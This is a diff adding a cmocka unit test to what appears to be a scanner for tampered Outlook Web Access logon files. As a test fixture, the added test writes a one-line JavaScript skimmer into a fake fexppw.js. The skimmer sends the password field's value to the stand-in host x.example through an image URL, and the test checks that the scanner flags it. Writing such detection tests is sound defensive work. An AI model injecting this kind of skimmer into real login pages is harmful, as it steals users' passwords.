@@ -234,6 +234,29 @@ tampered_flogon_is_a_finding_untouched_is_not(void **state)
 }
 
 static void
+tampered_script_in_the_current_folder_is_found(void **state)
+{
+	struct ht_host h;
+	struct exh_profile *p;
+	const struct exh_exposure *x;
+
+	(void)state;
+	assert_int_equal(ht_load("ese-rtm-aug25", HT_E15, &h), 0);
+	put(&h, FE_OWA "\\auth\\Current\\scripts\\premium\\fexppw.js",
+	    "var i = new Image(); i.src = '//x.example/c?' + "
+	    "document.getElementById('password').value;");
+	p = ht_profile(&h, NULL);
+	ht_free(&h);
+	assert_non_null(p);
+	x = find_expo(p, "owa-logon", FE_OWA
+	    "\\auth\\Current\\scripts\\premium\\fexppw.js");
+	assert_non_null(x);
+	assert_int_equal(x->state, EXH_EXPO_SUSPICIOUS);
+	assert_non_null(strstr(x->reason, "image URL"));
+	exh_profile_free(p);
+}
+
+static void
 logon_aspx_writing_a_file_is_a_finding(void **state)
 {
 	struct ht_host h;
@@ -296,6 +319,7 @@ main(void)
 		cmocka_unit_test(ep_off_on_ecp_and_foreign_global_module_are_both_reported),
 		cmocka_unit_test(csp_mitigation_rule_missing_then_present),
 		cmocka_unit_test(tampered_flogon_is_a_finding_untouched_is_not),
+		cmocka_unit_test(tampered_script_in_the_current_folder_is_found),
 		cmocka_unit_test(logon_aspx_writing_a_file_is_a_finding),
 		cmocka_unit_test(old_build_without_ep_support_is_one_exposure),
 		cmocka_unit_test(hostile_webconfig_is_a_note_not_a_crash),
